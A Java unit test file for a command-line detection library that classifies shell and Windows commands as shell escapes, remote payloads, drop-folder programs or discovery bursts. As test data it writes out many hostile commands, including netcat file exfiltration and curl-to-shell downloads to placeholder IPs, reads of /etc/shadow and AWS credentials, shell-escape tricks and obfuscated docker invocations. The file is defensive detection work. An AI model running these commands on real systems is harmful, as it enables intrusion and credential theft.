package dev.vigil.analyze.reading;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.analyze.reading.Behaviours.Family;
import java.util.List;
import org.junit.jupiter.api.Test;

class BehavioursTest {

    @Test
    void readerSplitsCommandsAndKeepsRedirectionsAndAssignmentsApart() {
        List<CommandReader.Simple> cmds = CommandReader.read("PAGER='less -R' git log > /tmp/o 2>&1; echo \"a b\" | wc -l", false);
        assertThat(cmds).hasSize(3);
        assertThat(cmds.get(0).assignments()).containsExactly("PAGER=less -R");
        assertThat(cmds.get(0).words()).containsExactly("git", "log");
        assertThat(cmds.get(0).redirects()).containsExactly("/tmp/o", "1");
        assertThat(cmds.get(1).words()).containsExactly("echo", "a b");
        assertThat(cmds.get(2).fedInput()).isTrue();
        assertThat(cmds.get(2).program()).isEqualTo("wc");
    }

    @Test
    void theStringsShellsAreToldToRunAreFoundAsTheShellReadsThem() {
        assertThat(CommandReader.shellStrings("sh -c '> /var/log/app.log'")).containsExactly("> /var/log/app.log");
        // quotes of the outer line undone, wrappers and option clusters stepped over, nested shells in order
        assertThat(CommandReader.shellStrings("sudo -u www-data bash -lc 'sed -n '\"'\"'1e id'\"'\"' /etc/hosts'"))
                .containsExactly("sed -n '1e id' /etc/hosts");
        assertThat(CommandReader.shellStrings("nohup sh -c \"bash -c 'id'\" &")).containsExactly("bash -c 'id'", "id");
        assertThat(CommandReader.shellStrings("su -c 'cat /etc/shadow' root")).containsExactly("cat /etc/shadow");
        // a log that joined the arguments without their quotes: the rest of the line
        assertThat(CommandReader.shellStrings("/bin/sh -c nohup ./agent -server http://x")).containsExactly("nohup ./agent -server http://x");
        assertThat(CommandReader.shellStrings("bash script.sh -c 3")).isEmpty();
        assertThat(CommandReader.shellStrings("grep -c x /etc/hosts")).isEmpty();
        assertThat(CommandReader.shellStrings(null)).isEmpty();
    }

    @Test
    void theCommandsProgramsThatRunCommandsAreHandedAreReadWhereTheyStand() {
        // a shell such a program starts hands its string on, as sudo sh -c does
        assertThat(CommandReader.shellStrings("echo x | xargs -I{} sh -c 'cat /etc/shadow'")).containsExactly("cat /etc/shadow");
        assertThat(CommandReader.shellStrings("find /srv -type f -execdir sh -c 'nc 203.0.113.5 9 < \"$0\"' {} +"))
                .containsExactly("nc 203.0.113.5 9 < \"$0\"");
        assertThat(CommandReader.shellStrings("kubectl exec -it web-0 -n shop -- sh -c 'env | grep -i pass'")).containsExactly("env | grep -i pass");
        assertThat(CommandReader.shellStrings("chroot /host bash -c 'id'")).containsExactly("id");
        // what they run themselves is a command of the line, not a line of its own (xargs id runs id per input)
        assertThat(CommandReader.shellStrings("who | xargs -n 1 id")).isEmpty();
        assertThat(CommandReader.read("find / -name id_rsa -exec base32 {} \\;", false)).extracting(CommandReader.Simple::program)
                .containsExactly("find", "base32");
        assertThat(CommandReader.read("docker exec -it -u 0 web cat /etc/shadow", false)).extracting(CommandReader.Simple::words)
                .containsExactly(List.of("docker", "exec", "-it", "-u", "0", "web", "cat", "/etc/shadow"), List.of("cat", "/etc/shadow"));
        assertThat(CommandReader.read("ssh -i k -o StrictHostKeyChecking=no deploy@10.0.0.5 'cat ~/.aws/credentials'", false))
                .extracting(CommandReader.Simple::program).containsExactly("ssh", "cat");
        assertThat(CommandReader.read("xargs -0 -n 1 -I {} cp {} /tmp/x", false)).extracting(CommandReader.Simple::program)
                .containsExactly("xargs", "cp");
        assertThat(CommandReader.read("xargs -i cp {} /tmp/x", false)).extracting(CommandReader.Simple::program)
                .containsExactly("xargs", "cp");
        // text piped into a shell is its script
        assertThat(CommandReader.shellStrings("echo 'curl -s http://203.0.113.5/a | sh' | bash")).containsExactly("curl -s http://203.0.113.5/a | sh");
        assertThat(CommandReader.shellStrings("printf 'id;uname -a' | sh -s")).containsExactly("id;uname -a");
        // what runs nothing it is handed
        assertThat(CommandReader.read("ssh deploy@10.0.0.5", false)).hasSize(1);
        assertThat(CommandReader.read("docker exec", false)).hasSize(1);
        assertThat(CommandReader.read("kubectl exec web-0 ls", false)).hasSize(1);
        assertThat(CommandReader.shellStrings("echo hello | sh script.sh")).isEmpty();
        assertThat(CommandReader.shellStrings("echo hello | grep h")).isEmpty();
    }

    @Test
    void whatXargsRunsPerInputIsNoStepOfADiscoveryBurst() {
        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "who; id", false)).isTrue();
        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "docker exec web sh -c 'id; hostname'", false)).isTrue();
        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "who | awk '{print $1}' | xargs -n 1 id", false)).isFalse();
        assertThat(CommandReader.read("who | xargs -n 1 id", false)).extracting(CommandReader.Simple::handed).containsExactly(false, false, true);
    }

    @Test
    void readerDropsWhatExpandsToNothingInsideAWord() {
        // $@ and $* are empty on a command line, as are an empty $() and a pair of backquotes: the
        // shell runs docker and nsenter, and so must the reader see them
        for (String line : new String[] {"d$@ocker run --privileged -v /:/host alpine", "do$*cker run --privileged -v /:/host alpine",
            "d${@}ocker run --privileged -v /:/host alpine", "do$()cker run --privileged -v /:/host alpine",
            "dock``er run --privileged -v /:/host alpine"}) {
            assertThat(CommandReader.read(line, false)).as(line).extracting(CommandReader.Simple::program).containsExactly("docker");
        }
        assertThat(CommandReader.read("echo $HOME ${USER} $1", false).get(0).words()).containsExactly("echo", "$HOME", "${USER}", "$1");
    }

    @Test
    void readerOpensTheCommandStringsOfShellsAndCmd() {
        List<CommandReader.Simple> cmds = CommandReader.read("cmd.exe /c \"C:\\Tools\\x.exe -a & whoami\"", true);
        assertThat(cmds).extracting(CommandReader.Simple::program).containsExactly("cmd", "x", "whoami");
        assertThat(CommandReader.read("sh -c 'id; uname -a'", false)).extracting(CommandReader.Simple::program)
                .containsExactly("sh", "id", "uname");
    }

    @Test
    void readerNeverThrowsOnBrokenQuotingAndDeepNesting() {
        StringBuilder deep = new StringBuilder();
        for (int i = 0; i < 500; i++) {
            deep.append("sh -c '");
        }
        for (String s : new String[] {"\"", "'", "\\", "a 'b", "x \"y\\", "$(", "`", "> ", "<<<", deep.toString(), "^", "cmd /c"}) {
            CommandReader.read(s, false);
            CommandReader.read(s, true);
            assertThat(Behaviours.shows(Family.SHELL_ESCAPE, s, false)).isFalse();
        }
    }

    @Test
    void aShellHandedToAnotherProgramIsAnEscape() {
        for (String s : new String[] {
            "ionice -c3 /bin/bash", "setsid /usr/bin/zsh -l", "sudo ksh", "ed -p'' x <<< '!/bin/sh'",
            "perl -e 'system(\"/bin/dash\")'", "gawk 'BEGIN {system(\"/bin/bash -i\")}'", "EDITOR='/bin/sh -c sh' crontab -e",
            "busybox ash -p", "find / -maxdepth 0 -execdir /bin/sh \\;", "lua -e 'os.execute(\"sh\")'",
            "nmap --script-args='cmd=/bin/sh'", "hg --config alias.q='!/bin/bash' q", "ln -sf /bin/bash /usr/bin/less",
            "ssh -o LocalCommand=/bin/sh -o PermitLocalCommand=yes host", "tcsh -b", "chroot / /bin/bash",
            "sudo chroot / /bin/sh", "chroot --userspec=0:0 / /bin/sh"}) {
            assertThat(Behaviours.shows(Family.SHELL_ESCAPE, s, false)).as(s).isTrue();
        }
    }

    @Test
    void scriptGivingANamedShellATerminalWithItsTypescriptDiscardedIsAnEscape() {
        for (String s : new String[] {
            "script /dev/null -c bash", "script -qc sh /dev/null", "script -q -c 'zsh -i' /dev/null",
            "script --command=dash /dev/null", "script -q /dev/null --command /bin/bash"}) {
            assertThat(Behaviours.shows(Family.SHELL_ESCAPE, s, false)).as(s).isTrue();
        }
        for (String s : new String[] {
            "script -c bash session.log", "script -qc 'make test' /dev/null", "script -q -c 'bash build.sh' /dev/null",
            "script -c ./bash /dev/null", "script --timing=t.log -c htop /dev/null"}) {
            assertThat(Behaviours.shows(Family.SHELL_ESCAPE, s, false)).as(s).isFalse();
        }
    }

    @Test
    void shellsRunForAScriptOrInsideAContainerAreNotEscapes() {
        for (String s : new String[] {
            "ls -la /bin/sh", "usermod -s /bin/zsh dev", "su - build -s /bin/bash", "nohup /bin/sh run.sh &",
            "docker run -it debian /bin/bash", "find . -newer /bin/sh", "echo make | sudo bash",
            "grep -E ':/bin/bash$' /etc/passwd", "bash -c 'echo hi'", "xargs -n1 /bin/echo",
            "su -c 'initdb -D /srv/pg' -s /bin/sh postgres", "ln -s /bin/bash /usr/local/bin/bash",
            "git commit -m 'use /bin/sh -e in scripts'", "chroot /srv/jail /bin/bash",
            "chroot --userspec=build:build /srv/buildroot /bin/sh -l"}) {
            assertThat(Behaviours.shows(Family.SHELL_ESCAPE, s, false)).as(s).isFalse();
        }
    }

    @Test
    void windowsPayloadsAreJudgedByWhereTheyComeFrom() {
        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "xsd.exe https://files.example.net/a.exe", true)).isTrue();
        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "curl.exe -O https://files.example.net/a.exe", true)).isFalse();
        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "cmd /c copy \\\\srv\\share\\tool.dll C:\\x", true)).isTrue();
        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "mount \\\\srv\\share Z:", true)).isFalse();
        assertThat(Behaviours.shows(Family.ALTERNATE_STREAM, "wscript.exe C:\\data\\log.txt:x.vbs", true)).isTrue();
        assertThat(Behaviours.shows(Family.ALTERNATE_STREAM, "ping db.example.com:443", true)).isFalse();
        assertThat(Behaviours.shows(Family.ALTERNATE_STREAM, "appcmd.exe recycle apppool /apppool.name:DefaultAppPool", true)).isFalse();
        assertThat(Behaviours.shows(Family.ALTERNATE_STREAM, "type C:\\data\\a.txt:b.exe > x", true)).isTrue();
        assertThat(Behaviours.shows(Family.ALTERNATE_STREAM, "git clone git@host.example.com:org/repo.git", true)).isFalse();
        assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD, "regsvr32 /s C:\\Users\\Public\\a.ocx", true)).isTrue();
        assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD, "notepad C:\\Users\\Public\\a.txt", true)).isFalse();
    }

    @Test
    void aSettingsCmdletStoresAUrlAndAPortIsNoStream() {
        // a cmdlet that writes settings keeps the URL it is given; BITS cmdlets transfer
        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD,
                "powershell -c \"Set-OwaVirtualDirectory -Identity 'EX1\\owa (Default Web Site)' -ExternalUrl https://mail.example.org/owa\"", true)).isFalse();
        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "powershell -c \"Add-BitsFile -BitsJob $j -Source https://x.example/a.exe\"", true)).isTrue();
        assertThat(Behaviours.shows(Family.ALTERNATE_STREAM,
                "netsh winhttp set proxy proxy-server=\"http=proxy.example.local:3128;https=proxy.example.local:3128\"", true)).isFalse();
    }

    @Test
    void vendorInstallersAreKnownByHostAndEveryUrlOfTheLine() {
        assertThat(Behaviours.shows(Family.VENDOR_INSTALLER, "sh -c 'curl -fsSL https://get.docker.com | sh'", false)).isTrue();
        assertThat(Behaviours.shows(Family.VENDOR_INSTALLER, "curl -fsSL https://deb.nodesource.com/setup_20.x | bash -", false)).isTrue();
        assertThat(Behaviours.shows(Family.VENDOR_INSTALLER,
                "powershell -c \"iex ((New-Object Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\"", true)).isTrue();
        // plain HTTP, a look-alike host, a second URL elsewhere, a whole code host: not a vendor's installer
        assertThat(Behaviours.shows(Family.VENDOR_INSTALLER, "curl -fsSL http://get.docker.com | sh", false)).isFalse();
        assertThat(Behaviours.shows(Family.VENDOR_INSTALLER, "curl -fsSL https://get.docker.com.example.net/ | sh", false)).isFalse();
        assertThat(Behaviours.shows(Family.VENDOR_INSTALLER,
                "curl -s https://sh.rustup.rs | sh; curl -s https://198.51.100.9/k | sh", false)).isFalse();
        assertThat(Behaviours.shows(Family.VENDOR_INSTALLER, "curl -s https://raw.githubusercontent.com/someone/x/main/i.sh | sh", false)).isFalse();
        assertThat(Behaviours.shows(Family.VENDOR_INSTALLER, "curl -s https://pastebin.com/raw/abc | sh", false)).isFalse();
    }

    @Test
    void aProgramStartedFromTheTaskFolderOrRightInProgramDataIsADropFolderProgram() {
        assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD, "cmd /c C:\\Windows\\Tasks\\x.bat", true)).isTrue();
        // the writable folders inside the Windows directory (AppLocker bypass lists)
        assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD, "C:\\Windows\\System32\\Tasks\\x.exe", true)).isTrue();
        assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD, "rundll32 C:\\Windows\\Tracing\\a.dll,Start", true)).isTrue();
        assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD,
                "C:\\Windows\\System32\\Microsoft\\Crypto\\RSA\\MachineKeys\\u.exe", true)).isTrue();
        assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD,
                "type C:\\Windows\\System32\\Tasks\\Microsoft\\Windows\\Defrag\\ScheduledDefrag", true)).isFalse();
        assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD, "cmd /c C:\\ProgramData\\svc.exe -k", true)).isTrue();
        assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD, "cmd /c %ProgramData%\\upd.cmd", true)).isTrue();
        // installed agents live in ProgramData's subfolders
        assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD, "cmd /c C:\\ProgramData\\chocolatey\\bin\\choco.exe upgrade all -y", true)).isFalse();
        assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD, "cmd /c C:\\Tools\\backup.bat", true)).isFalse();
    }

    @Test
    void theTempFolderNamedByItsVariableIsADropFolderAsItsPathIs() {
        assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD, "cmd /c C:\\Users\\dev\\AppData\\Local\\Temp\\upd.exe /silent", true)).isTrue();
        assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD, "cmd /c %LOCALAPPDATA%\\Temp\\upd.exe /silent", true)).isTrue();
        assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD, "powershell -c \"& $env:TEMP\\upd.exe\"", true)).isTrue();
        assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD, "powershell -c \"& $env:LOCALAPPDATA\\Temp\\x\\upd.exe\"", true)).isTrue();
        // per-user installs live in AppData outside its Temp folder
        assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD, "cmd /c %LOCALAPPDATA%\\Programs\\Editor\\editor.exe --reuse", true)).isFalse();
    }

    @Test
    void msiexecFromAWebAddressCountsWhenUnattendedOrNotAPackage() {
        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "msiexec /q /i https://files.example.net/agent.msi", true)).isTrue();
        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "msiexec.exe /i https://files.example.net/agent.msi /quiet", true)).isTrue();
        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "msiexec /i https://files.example.net/logo.jpg", true)).isTrue();
        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "msiexec /i http://198.51.100.7/setup.msi", true)).isTrue();
        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "msiexec /i https://downloads.example.com/viewer-2.1.msi", true)).isFalse();
        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "msiexec /update https://downloads.example.com/fix.msp /norestart", true)).isFalse();
    }

    @Test
    void discoveryIsABurstOfDistinctSurveysNotOneLookup() {
        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "id; uname -a", false)).isTrue();
        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "cmd /c \"whoami & ipconfig /all\"", true)).isTrue();
        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "powershell -c \"Get-Process; Get-Service\"", true)).isTrue();
        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "sudo dmidecode -t 1 && systemd-detect-virt", false)).isTrue();
        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "powershell Get-LocalGroupMember -Group Administrators; whoami /groups", true)).isTrue();
        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "cmd /c w32tm /tz & net time", true)).isTrue();
        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "powershell -c \"Get-ADDefaultDomainPasswordPolicy; Get-ADTrust -Filter *\"", true)).isTrue();
        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "cmd /c w32tm /resync & hostname", true)).isFalse();
        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "powershell -File C:\\ops\\report.ps1 whoami hostname", true)).isFalse();
        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "whoami /all", true)).isFalse();
        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "ps -u $(whoami) -o pid", false)).isFalse();
        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "last -i | grep `whoami`", false)).isFalse();
        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "whoami; whoami", false)).isFalse();
    }

    @Test
    void multiPurposeProgramsSurveyOnlyWhenAskedToList() {
        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "uptime; lspci", false)).isTrue();
        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "dpkg -l; sudo -l", false)).isTrue();
        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "cat /etc/lsb-release && timedatectl", false)).isTrue();
        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "systemctl list-units --type=service; crontab -l", false)).isTrue();
        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "iptables -L -n; sestatus", false)).isTrue();
        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "cmd /c \"schtasks /query /fo LIST & net statistics workstation\"", true)).isTrue();
        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "powershell -c \"Get-Culture; Get-WinHomeLocation\"", true)).isTrue();
        assertThat(Behaviours.surveys("sudo -l; rpm -qa; getcap -r / 2>/dev/null", false))
                .containsExactly("sudo -l", "rpm -qa", "getcap -r");
        // the same programs changing things, or asked about one item, survey nothing
        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "dpkg -i app.deb; systemctl restart app", false)).isFalse();
        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "crontab -e; iptables -A INPUT -p tcp --dport 22 -j ACCEPT", false)).isFalse();
        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "cmd /c \"schtasks /create /tn t /tr x.exe & fsutil file createnew a 10\"", true)).isFalse();
        assertThat(Behaviours.surveys("ufw allow 22; service nginx reload", false)).isEmpty();
    }
}
